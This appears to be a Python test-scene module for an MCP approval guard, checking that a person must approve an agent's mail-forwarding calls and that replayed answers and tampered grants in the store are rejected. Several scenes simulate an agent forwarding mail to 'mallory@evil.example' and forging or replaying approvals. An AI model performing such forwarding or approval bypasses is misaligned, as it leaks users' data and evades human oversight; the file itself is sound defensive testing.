"""Scenes in which a person is asked: what he reads, what each choice does, and what an attacker gains by his answer."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any, Final

import mcp_types
from fastmcp import Client
from fastmcp.client.elicitation import ElicitResult

from .stage import Scene, Stage, call


class Person:
    """Who sits at the client: chooses in each form what the script says, and remembers what it read."""

    def __init__(self, says: str) -> None:
        self.says = says
        self.read: list[str] = []
        self.forms: list[Mapping[str, Any]] = []

    async def __call__(self, message: str, response_type: Any, params: Any, context: Any) -> ElicitResult[Any]:
        """Answers one form."""
        self.read.append(message)
        self.forms.append(params.requested_schema["properties"])
        return ElicitResult(action="accept", content=dict.fromkeys(self.forms[-1], self.says))

    @property
    def offered(self) -> str:
        """What the last form offered, as it would stand in a dialog."""
        (field, *_) = self.forms[-1].values()
        return "\n".join(f"  ( ) {option['title']}" for option in field["oneOf"])


async def once(stage: Stage) -> None:
    """This call, once."""
    person = Person("once")
    async with stage.world.client("bob", person) as bob:
        ran, saw = await call(bob, "forward_mail", id=1, to="carol@example.org")
        text = f"{person.read[0]}\n\n{person.offered}"
        stage.show("bob's agent forwards a mail; bob reads", text, 'to: "carol@example.org"' in text)
        stage.show("he allows this call, once", saw, ran)
        await call(bob, "forward_mail", id=1, to="carol@example.org")
        stage.show("the agent does it again", f"bob is asked {len(person.read)} times", len(person.read) == 2)


async def minutes(stage: Stage) -> None:
    """For minutes."""
    person = Person("period")
    async with stage.world.client("bob", person) as bob:
        for number in (1, 2, 3):
            ran, saw = await call(bob, "forward_mail", id=number, to="carol@example.org")
            stage.show(f"bob's agent forwards mail {number}", saw, ran)
        stage.show("bob was asked once, and chose the last", person.offered, len(person.read) == 1)
    other = Person("deny")
    async with stage.world.client("alice", other) as alice:
        ran, saw = await call(alice, "forward_mail", id=1, to="carol@example.org")
        stage.show("it is bob's approval: alice is asked herself, and denies", saw, not ran and len(other.read) == 1)


async def declined(stage: Stage) -> None:
    """No."""
    person = Person("deny")
    async with stage.world.client("bob", person) as bob:
        for _ in range(3):
            ran, saw = await call(bob, "forward_mail", id=1, to="mallory@evil.example")
        stage.show("the agent tries three times; bob says no", saw, not ran)
        stage.show("he was asked", f"{len(person.read)} time", len(person.read) == 1)
        stage.show("what has run", stage.world.ran, stage.world.ran == [])


async def field(stage: Stage) -> None:
    """A field, asked for after the call."""
    person = Person("deny")
    async with stage.world.client("bob", person) as bob:
        _, saw = await call(bob, "read_contact", name="Carol")
        text = f"{person.read[0]}\n\n{person.offered}"
        stage.show("the agent reads a contact; bob reads", text, "Show email?" in text)
        stage.show("he says no: the rest is shown", saw, saw == {"name": "Carol"})
        person.says = "once"
        _, saw = await call(bob, "read_contact", name="Dave")
        stage.show("for another one he says yes", saw, "email" in str(saw))
        right = stage.world.ran == ["read_contact Carol", "read_contact Dave"]
        stage.show("each contact was read once; the result waited for him", stage.world.ran, right)


async def replayed(stage: Stage) -> None:
    """An approval, sent again."""
    if stage.world.era is not None:
        await _replayed_push(stage)
        return
    async with stage.world.client("bob", Person("once")) as bob:
        arguments = {"id": 1, "to": "carol@example.org"}
        asked = await bob.session.call_tool("forward_mail", arguments, allow_input_required=True)
        if not isinstance(asked, mcp_types.InputRequiredResult):
            stage.show("the agent forwards a mail", "nobody was asked", False)
            return
        yes = mcp_types.ElicitResult(action="accept", content={"choice": "once"})
        answer = dict.fromkeys(asked.input_requests or {}, yes)
        for number in (1, 2, 3):
            saw = await _again(bob, arguments, answer, asked.request_state)
            expected = "forwarded" in saw if number == 1 else "[grant_used]" in saw
            stage.show(f"bob's answer is sent, time {number}", saw, expected)
        moved = await bob.session.call_tool("forward_mail", arguments, allow_input_required=True)
        if isinstance(moved, mcp_types.InputRequiredResult):
            answer = dict.fromkeys(moved.input_requests or {}, yes)
            saw = await _again(bob, {"id": 1, "to": "mallory@evil.example"}, answer, moved.request_state)
            stage.show("an answer is sent with other arguments", saw, "forwarded" not in saw)
    stage.show("what has run", stage.world.ran, stage.world.ran == ["forward_mail 1 carol@example.org"])


async def _replayed_push(stage: Stage) -> None:
    """In the protocol before, an answer never travels with a call: there is nothing to send again."""
    person = Person("once")
    async with stage.world.client("bob", person) as bob:
        ran, saw = await call(bob, "forward_mail", id=1, to="carol@example.org")
        stage.show("bob's answer is given", saw, ran)
    stage.show("what has run", stage.world.ran, stage.world.ran == ["forward_mail 1 carol@example.org"])


async def _again(client: Client[Any], arguments: Mapping[str, Any], answer: Any, state: str | None) -> str:
    result = await client.session.call_tool(
        "forward_mail", dict(arguments), input_responses=answer, request_state=state, allow_input_required=True
    )
    content = getattr(result, "content", None)
    return str(content[0].text) if content else "asked again"


async def forged(stage: Stage) -> None:
    """A grant that somebody with the store writes."""
    person = Person("period")
    store: Any = stage.world.guard.runtime.store
    async with stage.world.client("bob", person) as bob:
        await call(bob, "forward_mail", id=1, to="carol@example.org")
        found, _ = await store.scan("", None, 100)
        grants = [(name, entry.value) for name, entry in found if "grant/" in name]
        stage.show("bob allowed it for minutes; the store keeps", grants[0][0][:40] + "…", len(grants) == 1)
        name, value = grants[0]
        await store.put(name, value[:-1] + bytes([value[-1] ^ 1]), 600.0)
        person.says = "deny"
        ran, saw = await call(bob, "forward_mail", id=2, to="mallory@evil.example")
        stage.show("an attacker flips one bit of it", saw, not ran and len(person.read) == 2)
        await store.put(name.replace("grant/", "grant/x"), value, 600.0)
    other = Person("deny")
    async with stage.world.client("alice", other) as alice:
        ran, saw = await call(alice, "forward_mail", id=1, to="mallory@evil.example")
        stage.show("or puts bob's grant elsewhere for alice: she is asked", saw, not ran and len(other.read) == 1)


ASKING: Final = (
    Scene("once", "Asked, once", "A person sees the exact call before it runs.", once),
    Scene("minutes", "Asked, for minutes", "An approval lasts as long as it says, for its caller.", minutes),
    Scene("declined", "Declined", "A no is remembered for a while: a loop asks once.", declined),
    Scene("field", "A field, after the call", "The call runs once; a part of its result waits for a person.", field),
    Scene("replayed", "An approval, replayed", "An answer counts once, for the call that it was given for.", replayed),
    Scene("forged", "A forged grant", "Whoever can write to the store can allow nothing.", forged),
)
